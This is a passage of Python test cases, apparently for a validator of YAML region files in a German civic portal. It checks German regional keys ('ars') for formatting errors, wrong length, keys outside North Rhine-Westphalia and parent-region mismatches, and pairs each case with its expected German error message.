         ("data/regions/teststadt.yaml:{line:ars: 051110000000}:1: Feld 'ars': steht ohne Anführungszeichen: YAML liest die Ziffern dann als Zahl, die führende 0 geht verloren – den Schlüssel in Anführungszeichen setzen, z. B. ars: \"051110000000\" für die Stadt Düsseldorf",),
         edit=(("regions/teststadt.yaml", 'ars: "051110000000"', "ars: 051110000000"),)),
    Case("ars-gemeindeschluessel", "Amtlicher Gemeindeschlüssel (8 Stellen) statt Regionalschlüssel",
         ("data/regions/teststadt.yaml:{line:ars: \"05111000\"}:1: Feld 'ars': '05111000' ist der Amtliche Gemeindeschlüssel (8 Stellen) von Düsseldorf; hier steht der Regionalschlüssel mit 12 Stellen – ars: \"051110000000\" schreiben",),
         edit=(("regions/teststadt.yaml", 'ars: "051110000000"', 'ars: "05111000"'),)),
    Case("ars-outside-nrw", "Schlüssel einer Stadt in Bayern",
         ("data/regions/teststadt.yaml:{line:ars: \"091620000000\"}:1: Feld 'ars': '091620000000' ist kein Schlüssel in Nordrhein-Westfalen: diese beginnen mit 05 – die Schlüssel stehen in hooks/portal/geodata/ (nrw-kreise.geojson: Kreise und kreisfreie Städte, nrw-gemeinden.csv: Gemeinden); für das Land \"05\"",),
         edit=(("regions/teststadt.yaml", 'ars: "051110000000"', 'ars: "091620000000"'),)),
    Case("ars-unknown-kreis", "fünfstelliger Schlüssel, den es in NRW nicht gibt",
         ("data/regions/teststadt.yaml:{line:ars: \"05999\"}:1: Feld 'ars': '05999' ist nicht der Schlüssel eines Kreises oder einer kreisfreien Stadt in Nordrhein-Westfalen (Verwaltungsgrenzen des BKG, Stand 2021) – die Schlüssel stehen in hooks/portal/geodata/ (nrw-kreise.geojson: Kreise und kreisfreie Städte, nrw-gemeinden.csv: Gemeinden); für das Land \"05\"",),
         edit=(("regions/teststadt.yaml", 'ars: "051110000000"', 'ars: "05999"'),)),
    Case("ars-same-area", "zwei Regionen mit demselben Gebiet (Stadt- und Kreisschlüssel einer kreisfreien Stadt)",
         ("data/regions/zweite.yaml:2:1: Feld 'ars': '05111' bezeichnet dasselbe Gebiet wie der Schlüssel in data/regions/teststadt.yaml (Düsseldorf (Kreisfreie Stadt)) – jedes Verwaltungsgebiet gehört zu genau einer Region; den Schlüssel bei einer der beiden löschen",),
         write={"regions/zweite.yaml": 'name: Zweite Stadt\nars: "05111"\n'}),
    Case("ars-outside-parent", "Stadt mit Schlüssel einer Gemeinde in einem anderen Kreis als ihre übergeordnete Region",
         ("data/regions/stadt-unna.yaml:4:1: Feld 'ars': '059780036036' (Unna (Stadt)) liegt nicht in Recklinghausen (Kreis), dem Gebiet der übergeordneten Region 'kreis-re' (über parent: kreis-re) – parent oder ars prüfen: parent nennt die nächstgrößere Region, ars das Gebiet dieser Region",),
         write={"regions/kreis-re.yaml": 'name: Kreis Recklinghausen\nkind: kreis\nparent: land\nars: "05562"\n',
                "regions/stadt-unna.yaml": 'name: Stadt Unna\nkind: stadt\nparent: kreis-re\nars: "059780036036"\n'}),
    Case("ars-gemeinde-in-kreis", "Schlüssel einer kreisangehörigen Stadt und ihres Kreises: beides gültig",
         (),
         write={"regions/kreis-unna.yaml": 'name: Kreis Unna\nkind: kreis\nparent: land\nars: "05978"\n',
                "regions/stadt-unna.yaml": 'name: Stadt Unna\nkind: stadt\nparent: kreis-unna\nars: "059780036036"\n'}),
]
